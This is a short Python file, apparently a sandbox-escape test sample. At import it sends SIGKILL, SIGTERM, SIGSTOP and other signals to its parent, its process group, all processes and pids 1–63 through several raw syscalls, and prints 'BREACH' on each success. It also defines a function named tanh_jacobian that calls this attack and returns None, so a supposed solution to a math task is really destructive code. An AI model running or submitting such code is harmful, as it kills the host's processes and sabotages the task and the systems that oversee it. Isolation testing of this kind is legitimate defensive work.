"""Sends fatal signals to its parent, its group, all processes and every pid, by every call that sends one.

status: failed
"""

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attack():
    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGUSR1, signal.SIGBUS):
        for target in (os.getppid(), 0, -1, -os.getpgrp(), *range(1, 64)):
            if target == os.getpid():
                continue
            for name, sent in (("kill", libc.kill(target, number)), ("tkill", libc.syscall(200, target, number)),
                               ("tgkill", libc.syscall(234, target, target, number)),
                               ("rt_sigqueueinfo", libc.syscall(129, target, number, None)),
                               ("pidfd_send_signal", libc.syscall(424, libc.syscall(434, target, 0), number, None, 0))):  # fmt: skip
                if sent == 0:
                    print("BREACH:", name, target, number)


attack()


def tanh_jacobian(h_prev, x, W_hh, W_xh, b):
    attack()
    return None
